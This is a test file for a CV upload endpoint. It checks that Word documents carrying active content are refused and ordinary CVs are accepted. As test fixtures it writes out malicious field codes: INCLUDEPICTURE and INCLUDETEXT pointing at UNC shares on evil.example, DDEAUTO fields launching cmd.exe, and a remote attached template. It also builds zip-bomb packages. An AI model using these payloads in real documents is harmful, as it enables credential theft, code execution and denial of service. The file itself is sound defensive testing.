// Word CVs that reach outside themselves, and .docx bombs (issue 40, M1 Word part and M2 DOCX caps).
// M1: field codes that fetch or run something (INCLUDEPICTURE, INCLUDETEXT, DDEAUTO...) in any
// WordprocessingML part, as w:fldSimple or split over w:instrText runs, altChunk imports, and in a Word 97
// .doc the same fields in its piece-table text and a UNC attached template. M2: packages over the entry,
// unpacked-size and per-part caps, refused from the central directory or while reading. Each is refused
// with 422 and the same message as other refused CVs, nothing stored or mailed; each got a 200 before.
// Ordinary Word CVs, with page numbers, web links and a table of contents, are still accepted.
import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { cleanScratch, startApi, type ApiServer } from './api-server.ts';
import { REL } from './cv-files.ts';
import { postMultipart, vacancyForm, type VacancyFile } from './requests.ts';
import { count, listFiles, mailLog, readIfExists } from './stored-data.ts';
import { complexField, deflatedZip, docWithText, docxEntries, FIELD, repetitiveHeader, simpleField, W, wordDoc, wordDocx } from './word-files.ts';

const ACTIVE = 'The file contains macros, scripts, embedded objects or links to outside content. Please upload a plain PDF or Word document.';
const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml';
let api: ApiServer;

test.before(async () => {
  api = await startApi({ trusted_proxies: ['127.0.0.1'] });
  // One ordinary CV first, so the database exists before the first count.
  await accepted({ bytes: wordDocx({}), name: 'first.docx' });
});

test.after(async () => {
  await api?.stop();
  cleanScratch();
});

const uploads = () => listFiles(path.join(api.dataDir, 'uploads'));
const errorLog = () => readIfExists(path.join(api.dataDir, 'error.log'));

/** Refused with 422 and the active-content message, nothing kept or mailed, and the reason in the log's new lines. */
async function refused(file: VacancyFile, reason: RegExp): Promise<void> {
  const before = { files: uploads().length, rows: count(api, 'vacancies'), mails: mailLog(api).length, log: errorLog().length };
  const res = await postMultipart(api, '/vacancy.php', vacancyForm({ company: `Co ${crypto.randomUUID()}` }, { file }));
  assert.is(res.status, 422, `${file.name}: ${res.status} ${res.text}`);
  assert.equal(res.json, { success: false, message: ACTIVE });
  assert.is(uploads().length, before.files, `${file.name}: no file kept`);
  assert.is(count(api, 'vacancies'), before.rows, `${file.name}: no row kept`);
  assert.is(mailLog(api).length, before.mails, `${file.name}: nothing mailed`);
  assert.match(errorLog().slice(before.log), reason);
}

async function accepted(file: VacancyFile): Promise<void> {
  const before = uploads().length;
  const res = await postMultipart(api, '/vacancy.php', vacancyForm({ company: `Co ${crypto.randomUUID()}` }, { file }));
  assert.is(res.status, 200, `${file.name}: ${res.text}`);
  assert.is(uploads().length, before + 1, `${file.name}: stored`);
}

const UNC_PICTURE = String.raw`"\\\\evil.example\\share\\a.png"`;

test('M1 .docx: INCLUDEPICTURE in a header, as a simple field', async () => {
  const bytes = wordDocx({ header: simpleField(` INCLUDEPICTURE ${UNC_PICTURE} \\d`) });
  await refused({ bytes, name: 'cv.docx' }, /DOCX field INCLUDEPICTURE .*in word\/header1\.xml/);
});

test('M1 .docx: INCLUDETEXT in the document, its instruction split over three instrText runs', async () => {
  const bytes = wordDocx({ body: complexField([' INCLUDE', String.raw`TEXT "\\\\evil.exa`, String.raw`mple\\share\\cv.docx" `]) });
  await refused({ bytes, name: 'cv.docx' }, /DOCX field INCLUDETEXT .*in word\/document\.xml/);
});

test('M1 .docx: DDEAUTO in a footer, in lower case after leading spaces', async () => {
  const bytes = wordDocx({ footer: complexField(['   ddeauto ', String.raw`c:\\windows\\system32\\cmd.exe "/k calc.exe"`]) });
  await refused({ bytes, name: 'cv.docx' }, /DOCX field DDEAUTO .*in word\/footer1\.xml/);
});

test('M1 .docx: an altChunk importing another part', async () => {
  const bytes = wordDocx({
    body: '</w:p><w:altChunk xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId9"/><w:p>',
    parts: [{ name: 'word/afchunk.mht', data: 'MIME-Version: 1.0\r\n\r\n<img src="file://evil.example/a.png">', type: 'message/rfc822' }],
    relationships: [`<Relationship Id="rId9" Type="${REL}/aFChunk" Target="afchunk.mht"/>`],
  });
  await refused({ bytes, name: 'cv.docx' }, /DOCX (altChunk|relationship .*\/aFChunk)/);
});

test('M1 .doc: INCLUDEPICTURE in the text, the field name split over an 8-bit and a UTF-16 piece', async () => {
  const bytes = wordDoc({
    pieces: [
      { text: `Curriculum vitae\r${FIELD.begin} INCLUDE`, encoding: '8bit' },
      { text: `PICTURE ${UNC_PICTURE} \\d ${FIELD.separate}\u0001${FIELD.end}\r`, encoding: 'utf16' },
    ],
  });
  await refused({ bytes, name: 'cv.doc' }, /\.doc field INCLUDEPICTURE/);
});

test('M1 .doc: an attached template on a UNC path', async () => {
  const bytes = docWithText('Curriculum vitae\r', String.raw`\\evil.example\share\Normal.dotm`);
  await refused({ bytes, name: 'cv.doc' }, /\.doc attached template on another machine: \\\\evil\.example/);
});

test('M1 .docx, more ways in: every Word part, old names, nested fields, tracked deletions, file links', async () => {
  const inPart = (name: string, root: string, type: string, field: string) =>
    wordDocx({ parts: [{ name, type: `${WORD}.${type}`, data: `<w:${root} xmlns:w="${W}"><w:p>${field}</w:p></w:${root}>` }] });
  const footnote = inPart('word/footnotes.xml', 'footnotes', 'footnotes+xml', simpleField('IMPORT "http://evil.example/a.png"'));
  await refused({ bytes: footnote, name: 'cv.docx' }, /field IMPORT .*footnotes/);
  const comment = inPart('word/comments.xml', 'comments', 'comments+xml', complexField([String.raw`LINK Excel.Sheet.8 "\\\\h\\x.xls" ""`]));
  await refused({ bytes: comment, name: 'cv.docx' }, /field LINK .*comments/);
  const glossary = inPart('word/glossary/document.xml', 'glossaryDocument', 'document.glossary+xml', simpleField(String.raw`INCLUDE "C:\\x.doc"`));
  await refused({ bytes: glossary, name: 'cv.docx' }, /field INCLUDE .*glossary/);
  const endnote = inPart('word/endnotes.xml', 'endnotes', 'endnotes+xml', simpleField(String.raw`DDE Excel "\\\\h\\x" A1`));
  await refused({ bytes: endnote, name: 'cv.docx' }, /field DDE .*endnotes/);
  // Nested in the instruction of an IF; a field whose name another field computes; a tracked deletion.
  const nested = complexField(['IF 1 = 1 "', { field: complexField([`INCLUDEPICTURE ${UNC_PICTURE}`]) }, '" ""']);
  await refused({ bytes: wordDocx({ body: nested }), name: 'cv.docx' }, /field INCLUDEPICTURE/);
  const built = complexField(['INCLUDEPIC', { field: complexField(['QUOTE "TURE"'], 'TURE') }, ` ${UNC_PICTURE}`]);
  await refused({ bytes: wordDocx({ body: built }), name: 'cv.docx' }, /field name built from a nested field/);
  await refused({ bytes: wordDocx({ body: complexField([{ deleted: `INCLUDETEXT ${UNC_PICTURE}` }]) }), name: 'cv.docx' }, /field INCLUDETEXT/);
  // A hyperlink field to a file share, like a hyperlink relationship to one.
  await refused({ bytes: wordDocx({ body: simpleField(`HYPERLINK ${UNC_PICTURE}`) }), name: 'cv.docx' }, /field HYPERLINK to/);
});

test('M1 .doc, more ways in: a field in the result of another, a template URL, a stream that is no Word 97 document', async () => {
  const dde = `CV ${FIELD.begin} IF 1 = 1 ${FIELD.separate}${FIELD.begin}DDEAUTO cmd "/c calc"${FIELD.separate}x${FIELD.end}${FIELD.end}\r`;
  await refused({ bytes: docWithText(dde), name: 'cv.doc' }, /\.doc field DDEAUTO/);
  await refused({ bytes: docWithText('CV\r', 'https://evil.example/t.dotm'), name: 'cv.doc' }, /\.doc attached template on another machine: https/);
  // Word 6/95 lays its FIB out differently: not read, so refused.
  const word6 = docWithText('CV\r');
  word6.writeUInt16LE(0xa5dc, word6.indexOf(Buffer.from([0xec, 0xa5, 0xc1, 0x00])));
  await refused({ bytes: word6, name: 'cv.doc' }, /\.doc unreadable: not a Word 97-2003 document/);
});

test('M2 .docx: 3,000 parts of a megabyte each is refused from the central directory', async () => {
  const megabyte = repetitiveHeader(1024 * 1024);
  const entries = [...docxEntries(), ...Array.from({ length: 3000 }, (_, i) => ({ name: `word/header${i + 1}.xml`, data: megabyte }))];
  const bytes = deflatedZip(entries);
  assert.ok(bytes.length < 4 * 1024 * 1024, `under the upload limit: ${bytes.length} bytes`);
  await refused({ bytes, name: 'cv.docx' }, /DOCX over a cap: 3003 entries/);
});

/** 900 header parts of a megabyte each (900 MB unpacked, about 1 MB packed), each declared as `declaredSize`. */
function headerBomb(declaredSize?: number): Buffer {
  const megabyte = repetitiveHeader(1024 * 1024);
  return deflatedZip([...docxEntries(), ...Array.from({ length: 900 }, (_, i) => ({ name: `word/header${i + 1}.xml`, data: megabyte, declaredSize }))]);
}

test('M2 .docx: header parts that unpack to more than the total cap are refused from the central directory', async () => {
  await refused({ bytes: headerBomb(), name: 'cv.docx' }, /DOCX over a cap: declared sizes add up to more than/);
});

test('M2 .docx: the same parts declared as a kilobyte each are refused while reading, once one unpacks past its entry', async () => {
  await refused({ bytes: headerBomb(1024), name: 'cv.docx' }, /DOCX over a cap: a part unpacks to more than its entry says/);
});

test('ordinary Word CVs with harmless fields are accepted: page numbers, web links, a table of contents', async () => {
  const toc = complexField(['TOC \\o "1-3" \\h \\z \\u'], '').replace(
    '<w:r><w:t></w:t></w:r>',
    `${complexField([' HYPERLINK \\l "_Toc1" '], 'Experience')}${complexField([' PAGEREF _Toc1 \\h '], '1')}`,
  );
  const bytes = wordDocx({
    body: `${toc}${simpleField('HYPERLINK "https://www.linkedin.com/in/ravi"', 'LinkedIn')}${complexField([' MACROBUTTON NoMacro [Your name] '])}`,
    footer: complexField([' PAGE '], '1') + simpleField(' NUMPAGES ', '2'),
    relationships: [`<Relationship Id="rId5" Type="${REL}/hyperlink" Target="mailto:ravi.kumar@example.com" TargetMode="External"/>`],
  });
  await accepted({ bytes, name: 'cv.docx' });
  // A picture beside the XML: counted, not parsed.
  await accepted({ bytes: wordDocx({ parts: [{ name: 'word/media/image1.png', data: '\u0089PNG\r\n', type: 'image/png' }] }), name: 'photo.docx' });
  const text =
    `Ravi Kumar\r${FIELD.begin} TOC \\o "1-3" \\h ${FIELD.separate}${FIELD.begin} HYPERLINK \\l "_Toc1" ${FIELD.separate}Experience${FIELD.end}\r${FIELD.end}` +
    `${FIELD.begin} HYPERLINK "https://www.linkedin.com/in/ravi" ${FIELD.separate}LinkedIn${FIELD.end}\rPage ${FIELD.begin} PAGE ${FIELD.separate}1${FIELD.end}\r`;
  await accepted({ bytes: docWithText(text, String.raw`C:\Users\ravi\AppData\Roaming\Microsoft\Templates\Normal.dotm`), name: 'cv.doc' });
  await accepted({
    bytes: wordDoc({
      pieces: [
        { text: 'Ravi Kumar, ', encoding: '8bit' },
        { text: 'Hyderabad – Java\r', encoding: 'utf16' },
      ],
    }),
    name: 'unicode.doc',
  });
});

test('after all of the above: one file per stored vacancy, nothing refused left behind', () => {
  const rows = count(api, 'vacancies');
  assert.is(uploads().length, rows);
  assert.is(rows, 5);
  for (const file of uploads()) assert.ok(fs.statSync(path.join(api.dataDir, 'uploads', file)).size > 0);
});

test.run();
